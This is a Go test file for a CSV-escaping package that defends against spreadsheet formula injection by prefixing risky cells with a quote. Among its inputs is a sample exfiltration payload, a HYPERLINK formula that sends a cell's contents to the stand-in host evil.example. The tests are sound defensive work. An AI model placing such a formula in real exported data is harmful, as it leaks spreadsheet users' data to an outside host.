package csvsafe

import (
	"encoding/csv"
	"strings"
	"testing"
)

func TestCell(t *testing.T) {
	tests := []struct{ in, want string }{
		{"", ""},
		{"Siti Aminah", "Siti Aminah"},
		{`=HYPERLINK("http://evil.example/?d="&H2,"Klik")`, `'=HYPERLINK("http://evil.example/?d="&H2,"Klik")`},
		{"+1+1", "'+1+1"},
		{"-2+3", "'-2+3"},
		{"@SUM(1+1)", "'@SUM(1+1)"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"=", "'="},
		{"'=1+1", "'=1+1"},   // already begins with a quote: not a formula
		{"A=1+1", "A=1+1"},   // only the first character counts
		{" =1+1", " =1+1"},   // a space first: text in every spreadsheet
		{"\n=1+1", "\n=1+1"}, // a newline first: quoted by csv, not a formula
		{"0", "0"},           // numbers stay numbers
		{"42", "42"},
		{"3.5", "3.5"},
		{"0.9167", "0.9167"},
		{"1e+06", "1e+06"}, // %g of a large float: begins with a digit
		{"2026-11-27T09:00:00+07:00", "2026-11-27T09:00:00+07:00"},
		{"+6281234567890", "+6281234567890"}, // a signed plain number runs nothing: a phone keeps its digits
		{"-5", "-5"},
		{"+1.5", "+1.5"},
		{"+1+1", "'+1+1"},
		{"-2+3", "'-2+3"},
		{"+", "'+"},
		{"-.5", "'-.5"},
		{"+62 812", "'+62 812"},
		{"3273010101900001", "3273010101900001"},
		{"Ñoño", "Ñoño"},
	}
	for _, tt := range tests {
		if got := Cell(tt.in); got != tt.want {
			t.Errorf("Cell(%q) = %q; want %q", tt.in, got, tt.want)
		}
		if NeedsQuote(tt.in) != (tt.want != tt.in) {
			t.Errorf("NeedsQuote(%q) = %v", tt.in, NeedsQuote(tt.in))
		}
	}
}

// TestWriter: every cell of every record goes through Cell, the record
// passed in is left alone, and a CSV reader gets the neutralised cells back.
func TestWriter(t *testing.T) {
	recs := [][]string{
		{"name", "n", "ratio"},
		{`=HYPERLINK("http://evil.example/?d="&H2,"Klik")`, "12", "0.5000"},
		{"Budi", "-1", "@x"},
		{"+1+1", "0", "\tx"},
	}
	in := [][]string{}
	for _, r := range recs {
		in = append(in, append([]string(nil), r...))
	}
	var b strings.Builder
	w := NewWriter(&b)
	for _, r := range in {
		if err := w.Write(r); err != nil {
			t.Fatal(err)
		}
	}
	w.Flush()
	if err := w.Error(); err != nil {
		t.Fatal(err)
	}
	for i := range recs {
		if strings.Join(in[i], "|") != strings.Join(recs[i], "|") {
			t.Fatalf("Write changed its argument: %q", in[i])
		}
	}
	got, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, r := range got {
		for j, c := range r {
			if want := Cell(recs[i][j]); c != want {
				t.Errorf("record %d cell %d = %q; want %q", i, j, c, want)
			}
			if NeedsQuote(c) {
				t.Errorf("record %d cell %d = %q still begins with a formula character", i, j, c)
			}
		}
	}
	if !strings.Contains(b.String(), "\n\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&H2,\"\"Klik\"\")\",12,0.5000\n") {
		t.Errorf("raw CSV = %q", b.String())
	}
}
